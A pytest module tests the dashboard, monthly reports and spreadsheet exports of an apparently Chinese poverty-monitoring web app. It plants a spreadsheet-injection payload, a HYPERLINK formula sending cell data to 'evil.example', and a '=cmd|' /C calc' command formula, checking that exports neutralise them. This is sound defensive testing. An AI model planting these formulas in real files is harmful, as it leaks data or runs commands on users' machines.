"""Dashboard, analysis text, monthly report (PDF/DOCX) and XLSX exports through the web app, on the synthetic
county of conftest.py plus a year of cases driven through the statutory procedure by the domain services (opened
from alerts, identified by the county in different months, one under public notice, one measure)."""
from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from fangpin.alerts.models import Alert
from fangpin.reports.cells import is_dangerous

MONTH = "2024-12"
TYPES = ["TPBWD", "BYYZP", "TFYZKN"]
STEPS = ["authorise", "verify_home", "data_check", "village_review", "township_audit", "county_approve"]
AUTH = {"commitment_signed": True, "authorisation_signed": True}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
ID_RX = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])")
PHONE_RX = re.compile(r"(?<![0-9])1[3-9][0-9]{9}(?![0-9])")


def _drive(engine, alert_id: int, opened: datetime, steps: list[str], mtype: str, approve_day: int):
    from fangpin.alerts.cases_link import open_case_from_alert
    from fangpin.cases import Actor, act

    with engine.connect() as c:
        village = c.execute(select(Alert.region_code).where(Alert.id == alert_id)).scalar_one()
    cadre = Actor("v", "村干部", "village_cadre", village)
    town = Actor("t", "乡镇干部", "township_officer", village[:9])
    county = Actor("c", "县级干部", "county_officer", village[:6])
    who = {"authorise": cadre, "verify_home": cadre, "data_check": town, "village_review": cadre,
           "township_audit": town, "county_approve": county}
    day = {"authorise": 0, "verify_home": 1, "data_check": 2, "village_review": 3, "township_audit": 9,
           "county_approve": approve_day}
    payload = {"authorise": AUTH, "verify_home": {"findings": "属实"}, "village_review": {"monitored_type": mtype}}
    with engine.begin() as conn:
        case = open_case_from_alert(conn, alert_id, town, at=opened)
        for s in steps:
            case = act(conn, case.id, s, who[s], expected_version=case.version, at=opened + timedelta(days=day[s]),
                       payload=payload.get(s))
    return case, cadre


@pytest.fixture(scope="module")
def base_county(tmp_path_factory):
    """This module's own copy of the conftest county (300 households, monitored as of 2024-12-31, demo users),
    built fresh so that cases opened by other test modules on the shared one do not change the numbers here."""
    from fangpin.alerts.service import monitor
    from fangpin.auth import seed_demo_users
    from fangpin.db import make_engine, upgrade
    from fangpin.synth.run import SynthParams, run

    path = tmp_path_factory.mktemp("reports-base") / "base.db"
    e = make_engine(f"sqlite:///{path}")
    upgrade(e)
    run(e, SynthParams(households=300, months=24, seed=3), None)
    monitor(e, date(2024, 12, 31))
    with e.connect() as c:
        codes = c.execute(select(Alert.region_code).where(Alert.status == "open")).scalars().all()
    village = max(sorted(set(codes)), key=codes.count)
    with e.begin() as c:
        seed_demo_users(c, village, "fangpin-demo")
    e.dispose()
    return {"url": f"sqlite:///{path}", "village": village}


@pytest.fixture(scope="module")
def history(base_county, tmp_path_factory):
    """A copy of the web county with cases identified over 2024 (every 4th decided late: > 15 days)."""
    from fangpin.cases import Actor, add_measure
    from fangpin.db import make_engine

    county = base_county
    src = Path(county["url"].removeprefix("sqlite:///"))
    dst = tmp_path_factory.mktemp("reports") / "reports.db"
    shutil.copy(src, dst)
    e = make_engine(f"sqlite:///{dst}")
    with e.connect() as c:
        rows = c.execute(select(Alert.id, Alert.household_id, Alert.region_code).where(Alert.status == "open")
                         .order_by(Alert.region_code, Alert.id)).all()
    seen, picks = set(), []
    for aid, hid, _ in rows:
        if hid not in seen:
            seen.add(hid)
            picks.append(aid)
    assert len(picks) >= 12, "the synthetic county needs at least 12 alerted households"
    months = [2, 4, 6, 8, 10, 11, 12, 12, 12, 12, 12]
    cases = []
    for i, m in enumerate(months):
        case, _ = _drive(e, picks[i], datetime(2024, m, 1, 9), STEPS, TYPES[i % 3], 20 if i % 4 == 3 else 11)
        cases.append(case)
    with e.begin() as conn:
        add_measure(conn, cases[0].household_id, Actor("v0", "村干部", "village_cadre", cases[0].region_code),
                    category="EMPLOYMENT", start_date=date(2024, 2, 20), description=HOSTILE,
                    at=datetime(2024, 2, 20, 9))
    notice_case, _ = _drive(e, picks[len(months)], datetime(2024, 12, 20, 9), STEPS[:4], "BYYZP", 11)
    e.dispose()
    return {"url": f"sqlite:///{dst}", "cases": cases, "notice_case": notice_case, "village": county["village"]}


@pytest.fixture
def rclient(history):
    from fastapi.testclient import TestClient

    from fangpin.web.app import create_app

    app = create_app(history["url"], secret_key="test-secret")
    with TestClient(app) as c:
        yield c
    app.state.engine.dispose()


def _open_alerts(history):
    from fangpin.db import make_engine

    e = make_engine(history["url"])
    with e.connect() as c:
        rows = c.execute(select(Alert.region_code).where(Alert.status == "open")).all()
    e.dispose()
    return rows


def _figures(history, scope: str):
    from fangpin.db import make_engine
    from fangpin.reports import analysis, county_figures

    e = make_engine(history["url"])
    with e.connect() as c:
        f = county_figures(c, scope, MONTH)
    e.dispose()
    f["analysis"] = analysis(f)
    return f


def test_history_figures_follow_the_procedure(history):
    f = _figures(history, history["village"][:6])
    assert f["monitored_total"][-1] == 11 and f["new"][-1] == 5
    assert [f["monitored_total"][i] for i in (0, 1, 3)] == [0, 1, 2]  # Jan 0, Feb 1, Apr 2
    assert sum(f["monitored_by_type"]["TPBWD"][-1:]) == 4  # i = 0, 3, 6, 9
    idt = f["sla"]["identification_on_time"]
    # December decisions: i = 6..10 (5 cases; i = 7 decided on day 20 → late): POLICY.md §5 ≤ 15 days
    assert (idt["numerator"], idt["denominator"]) == (4, 5)
    assert f["indicators"]["in_identification"] == 1  # the case under notice


def test_dashboard_page_charts_analysis_and_downloads(rclient, login, history):
    login(rclient, "demo_county")
    r = rclient.get(f"/dashboard?month={MONTH}")
    assert r.status_code == 200
    html = r.text
    for id_ in ("chart-monitored", "chart-flows", "chart-risk", "chart-sla", "chart-areas", "analysis",
                "alerts-by-area", "sla", "feeds"):
        assert f'id="{id_}"' in html
    assert '<script src="/static/vendor/echarts/echarts.min.js"' in html
    assert not re.search(r"<script[^>]+src=\"https?://", html)  # no CDN
    f = _figures(history, history["village"][:6])
    assert f"共有监测对象{f['monitored_total'][-1]}户" in html
    assert f'id="kpi-monitored">{f["indicators"]["monitored_households"]}<' in html
    assert "/api/reports/monthly?month=2024-12&amp;format=pdf" in html and "/api/exports/households.xlsx" in html
    en = rclient.get(f"/dashboard?month={MONTH}&lang=en").text
    assert f"had {f['monitored_total'][-1]} monitored households" in en


def test_dashboard_drill_down_and_region_scoping(rclient, login, history):
    village = history["village"]
    login(rclient, "demo_township")
    f = rclient.get(f"/api/dashboard/figures?month={MONTH}").json()
    assert f["region"] == village[:9]
    assert all(r["code"].startswith(village[:9]) and len(r["code"]) == 12 for r in f["alerts_by_area"]["rows"])
    other_town = next(a.region_code[:9] for a in _open_alerts(history) if not a.region_code.startswith(village[:9]))
    assert rclient.get(f"/dashboard?area={other_town}").status_code == 404
    assert rclient.get(f"/api/dashboard/alerts-by-area?parent={other_town}").status_code == 404
    assert rclient.get(f"/api/dashboard/figures?region={other_town}").status_code == 404
    rclient.delete("/api/session")
    login(rclient, "demo_county")
    top = rclient.get(f"/api/dashboard/alerts-by-area?month={MONTH}").json()
    assert all(len(r["code"]) == 9 for r in top["rows"])
    town = top["rows"][0]["code"]
    down = rclient.get(f"/api/dashboard/alerts-by-area?month={MONTH}&parent={town}").json()
    assert sum(r["open"] for r in down["rows"]) == top["rows"][0]["open"]
    page = rclient.get(f"/dashboard?month={MONTH}&area={town}")
    assert page.status_code == 200
    table = page.text.split('id="alerts-by-area"')[1].split("</table>")[0]
    assert re.findall(r'mono">(\d+)<', table) == [r["code"] for r in down["rows"]]


def test_aggregate_roles_get_dashboard_and_report_but_no_exports(rclient, login):
    login(rclient, "demo_province")
    r = rclient.get("/dashboard")
    assert r.status_code == 200 and "/api/exports/" not in r.text
    assert rclient.get("/api/exports/households.xlsx").status_code == 403
    assert rclient.get(f"/api/dashboard/figures?month={MONTH}").status_code == 200
    assert rclient.get(f"/api/reports/monthly?month={MONTH}&format=pdf").status_code == 200


def test_anonymous_api_is_401_and_openapi_documents_the_endpoints(rclient):
    for path in ("/api/dashboard/figures", "/api/dashboard/alerts-by-area", "/api/dashboard/analysis",
                 "/api/reports/monthly", "/api/exports/alerts.xlsx"):
        assert rclient.get(path).status_code == 401, path
    paths = rclient.get("/openapi.json").json()["paths"]
    for p in ("/api/dashboard/figures", "/api/dashboard/alerts-by-area", "/api/dashboard/analysis",
              "/api/reports/monthly", "/api/exports/{kind}.xlsx"):
        assert p in paths, p


def test_bad_month_is_422_bilingual(rclient, login):
    login(rclient, "demo_county")
    r = rclient.get("/api/dashboard/figures?month=2024-13")
    assert r.status_code == 422 and r.json()["detail"]["code"] == "REPORT_BAD_MONTH"
    assert "YYYY-MM" in r.json()["detail"]["message_en"]


def test_monthly_report_pdf_and_docx_carry_the_real_figures(rclient, login, history):
    from docx import Document
    from pypdf import PdfReader

    login(rclient, "demo_county")
    f = _figures(history, history["village"][:6])
    pdf = rclient.get(f"/api/reports/monthly?month={MONTH}&format=pdf")
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    assert "attachment" in pdf.headers["content-disposition"]
    reader = PdfReader(io.BytesIO(pdf.content))
    text = re.sub(r"\s+", "", "".join(p.extract_text() for p in reader.pages))
    assert "防止返贫动态监测帮扶月度报告(2024年12月)" in text
    assert f"共有监测对象{f['monitored_total'][-1]}户" in text
    idt = f["sla"]["identification_on_time"]
    assert f"本月作出识别认定{idt['denominator']}件,按时{idt['numerator']}件" in text
    assert sum(len(p.images) for p in reader.pages) >= 3  # charts are embedded images
    docx = rclient.get(f"/api/reports/monthly?month={MONTH}&format=docx")
    assert docx.status_code == 200
    d = Document(io.BytesIO(docx.content))
    paras = "".join(p.text for p in d.paragraphs)
    assert f"共有监测对象{f['monitored_total'][-1]}户" in paras
    table = {r.cells[0].text: r.cells[1].text for r in d.tables[0].rows}
    assert table["监测对象(户)"] == str(f["indicators"]["monitored_households"])
    assert table["在册农户(户)"] == str(f["indicators"]["households"])
    series = d.tables[1]
    last = [c.text for c in series.rows[-1].cells]
    assert last[0] == MONTH and last[4] == str(f["monitored_total"][-1]) and last[5] == str(f["new"][-1])
    assert len(d.inline_shapes) >= 3
    en = rclient.get(f"/api/reports/monthly?month={MONTH}&format=pdf&lang=en")
    assert "monthly report" in "".join(p.extract_text() for p in PdfReader(io.BytesIO(en.content)).pages)


def test_generate_monthly_report_plain_function_for_job_runners(history):
    from fangpin.db import make_engine
    from fangpin.reports import ReportInputError, generate_monthly_report

    e = make_engine(history["url"])
    try:
        assert generate_monthly_report(e, history["village"][:6], MONTH, "pdf")[:5] == b"%PDF-"
        assert generate_monthly_report(e, history["village"][:6], MONTH, "docx")[:2] == b"PK"
        with pytest.raises(ReportInputError):
            generate_monthly_report(e, history["village"][:6], MONTH, "odt")
    finally:
        e.dispose()


def _cells(xlsx: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


@pytest.mark.parametrize("kind", ["households", "alerts", "measures", "notices"])
def test_every_xlsx_export_is_scoped_masked_and_formula_free(rclient, login, history, kind):
    login(rclient, "demo_county")
    r = rclient.get(f"/api/exports/{kind}.xlsx")
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    cells = list(_cells(r.content))
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for c in cells:
        assert c.data_type != "f", (kind, c.coordinate)
        if isinstance(c.value, str):
            assert not is_dangerous(c.value), (kind, c.coordinate, c.value)
    blob = " ".join(texts)
    assert not ID_RX.search(blob) and not PHONE_RX.search(blob), kind  # masked / never present
    rows = list(openpyxl.load_workbook(io.BytesIO(r.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "序号"
    if kind == "households":
        assert len(rows) == 1 + len(history["cases"])
        assert {x[10] for x in rows[1:]} == {"脱贫不稳定户", "边缘易致贫户", "突发严重困难户"}
    if kind == "measures":
        assert rows[1][10] == "'" + HOSTILE  # neutralised, still readable
    if kind == "notices":
        from fangpin.cases import public_text_problems

        assert len(rows) == 2 and rows[1][3].startswith("拟纳入")
        assert public_text_problems(blob) == []
    # a village cadre's export holds only their village
    rclient.delete("/api/session")
    login(rclient, "demo_village")
    mine = list(openpyxl.load_workbook(io.BytesIO(rclient.get(f"/api/exports/{kind}.xlsx").content))
                .active.iter_rows(values_only=True))
    assert len(mine) <= len(rows)


def test_scores_csv_is_neutralised(tmp_path):
    import pyarrow as pa

    from fangpin.risk import write_scores_csv

    t = pa.table({"household_id": [1, 2], "hh_no": ["=cmd|' /C calc'!A0", "HH2"], "probability": [0.9, 0.1],
                  "top_risk_type": ["@SUM(1)", "因病"]})
    p = write_scores_csv(tmp_path / "s.csv", t, [])
    rows = list(csv.reader(p.open(encoding="utf-8-sig")))
    for row in rows[1:]:
        for v in row:
            assert not is_dangerous(v), v
    assert rows[1][0] == "'=cmd|' /C calc'!A0" and rows[1][3] == "'@SUM(1)"


def test_echarts_is_vendored_with_licence_and_pinned_hash(rclient):
    d = Path(__file__).resolve().parents[2] / "src" / "fangpin" / "web" / "static" / "vendor" / "echarts"
    version, sha = (d / "VERSION").read_text().splitlines()[:2]
    assert version.startswith("echarts 5.6.0")
    assert hashlib.sha256((d / "echarts.min.js").read_bytes()).hexdigest() == sha
    assert "Apache License" in (d / "LICENSE").read_text()
    r = rclient.get("/static/vendor/echarts/echarts.min.js")
    assert r.status_code == 200 and hashlib.sha256(r.content).hexdigest() == sha


@pytest.mark.browser
def test_charts_render_in_chromium_desktop_and_phone(history):
    """Real headless Chromium (Debian package): ECharts from /static draws every chart; on a 390 px phone the
    page does not scroll sideways. Screenshots in test-artifacts/screenshots/."""
    import os
    import threading
    import time

    import socket

    CHROMIUM = os.environ.get("FANGPIN_CHROMIUM", "/usr/bin/chromium")
    ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--no-first-run"]
    SHOTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "screenshots"
    if not Path(CHROMIUM).exists():
        if os.environ.get("FANGPIN_REQUIRE_BROWSER") == "1":
            pytest.fail(f"FANGPIN_REQUIRE_BROWSER=1 but {CHROMIUM} is missing (apt package `chromium`)")
        pytest.skip(f"{CHROMIUM} missing: install the Debian package `chromium`")
    import uvicorn
    from playwright.sync_api import sync_playwright

    from fangpin.web.app import create_app

    app = create_app(history["url"], secret_key="browser-test")
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", workers=1))
    th = threading.Thread(target=srv.run, daemon=True)
    th.start()
    deadline = time.monotonic() + 20
    while not srv.started:
        assert time.monotonic() < deadline and th.is_alive(), "uvicorn did not start"
        time.sleep(0.05)
    base = f"http://127.0.0.1:{port}"
    SHOTS.mkdir(parents=True, exist_ok=True)
    external: list[str] = []
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
            try:
                for name, ctx_kw in (("desktop", {"viewport": {"width": 1280, "height": 900}}),
                                     ("phone", {"viewport": {"width": 390, "height": 844}, "is_mobile": True,
                                                "has_touch": True})):
                    ctx = browser.new_context(locale="zh-CN", **ctx_kw)
                    page = ctx.new_page()
                    page.on("request", lambda r: external.append(r.url) if not r.url.startswith(base) else None)
                    page.goto(base + "/login?next=/dashboard%3Fmonth%3D2024-12")
                    page.fill("input[name=username]", "demo_county")
                    page.fill("input[name=password]", "fangpin-demo")
                    page.click("#login-form button[type=submit]")
                    page.wait_for_url(base + "/dashboard?month=2024-12")
                    page.wait_for_function("window.fangpinCharts && window.fangpinCharts.length >= 4")
                    for cid in ("chart-monitored", "chart-flows", "chart-risk", "chart-sla", "chart-areas"):
                        assert page.locator(f"#{cid} canvas").count() >= 1, cid
                        box = page.locator(f"#{cid}").bounding_box()
                        assert box and box["width"] > 200 and box["height"] > 150, (cid, box)
                    assert page.locator("#analysis p").count() >= 4
                    if name == "phone":
                        assert page.evaluate("document.documentElement.scrollWidth") <= 392
                    page.screenshot(path=str(SHOTS / f"dashboard-charts-{name}.png"), full_page=True)
                    ctx.close()
            finally:
                browser.close()
    finally:
        srv.should_exit = True
        th.join(10)
        app.state.engine.dispose()
    assert external == [], external  # nothing loaded from outside (no CDN)


def test_cli_report_monthly_analysis_and_export(history, tmp_path):
    from docx import Document
    from pypdf import PdfReader
    from typer.testing import CliRunner

    from fangpin.cli.main import app

    county = history["village"][:6]
    f = _figures(history, county)
    run = CliRunner().invoke
    r = run(app, ["report", "monthly", "--db", history["url"], "--region", county, "--month", MONTH,
                  "--out", str(tmp_path / "m.pdf"), "--report-json", str(tmp_path / "m.json")])
    assert r.exit_code == 0, r.output
    text = re.sub(r"\s+", "", "".join(p.extract_text() for p in PdfReader(tmp_path / "m.pdf").pages))
    assert f"共有监测对象{f['monitored_total'][-1]}户" in text
    import json

    assert json.loads((tmp_path / "m.json").read_text())["indicators"]["monitored_households"] == \
        f["indicators"]["monitored_households"]
    r = run(app, ["report", "monthly", "--db", history["url"], "--region", county, "--month", MONTH,
                  "--out", str(tmp_path / "m.docx")])
    assert r.exit_code == 0, r.output
    assert any(f"共有监测对象{f['monitored_total'][-1]}户" in p.text for p in Document(tmp_path / "m.docx").paragraphs)
    r = run(app, ["report", "analysis", "--db", history["url"], "--region", county, "--month", MONTH, "--lang", "en"])
    assert r.exit_code == 0 and f"had {f['monitored_total'][-1]} monitored households" in r.output
    r = run(app, ["export", "xlsx", "households", "--db", history["url"], "--region", county,
                  "--out", str(tmp_path / "h.xlsx")])
    assert r.exit_code == 0, r.output
    assert openpyxl.load_workbook(tmp_path / "h.xlsx").active.max_row == 1 + len(history["cases"])
    bad = run(app, ["report", "monthly", "--db", history["url"], "--region", county, "--month", "2024/12",
                    "--out", str(tmp_path / "x.pdf")])
    assert bad.exit_code == 2 and "YYYY-MM" in bad.output and not (tmp_path / "x.pdf").exists()
    bad = run(app, ["report", "monthly", "--db", history["url"], "--region", county, "--month", MONTH,
                    "--out", str(tmp_path / "x.odt")])
    assert bad.exit_code == 2 and "pdf" in bad.output


def test_demo_history_identifies_households_month_by_month(base_county, tmp_path):
    """`fangpin demo` seeds a year of identifications through the procedure (fangpin.demo_history)."""
    from fangpin.db import make_engine
    from fangpin.demo_history import seed_history
    from fangpin.reports import county_figures

    county = base_county
    dst = tmp_path / "demo.db"
    shutil.copy(Path(county["url"].removeprefix("sqlite:///")), dst)
    e = make_engine(f"sqlite:///{dst}")
    try:
        ids = seed_history(e, 2024, per_month=1, skip_region=county["village"])
        assert len(ids) == 12
        from fangpin.cases.models import CaseFile

        with e.connect() as c:
            f = county_figures(c, county["village"][:6], "2024-12", today=date(2025, 6, 30))
            in_skipped = c.execute(select(CaseFile.id).where(CaseFile.region_code == county["village"])).all()
        assert f["new"] == [1] * 12 and f["monitored_total"] == list(range(1, 13))
        assert f["sla"]["identification_on_time"]["denominator"] == 1
        assert in_skipped == []  # the village of the step-by-step demo cases is left alone
    finally:
        e.dispose()
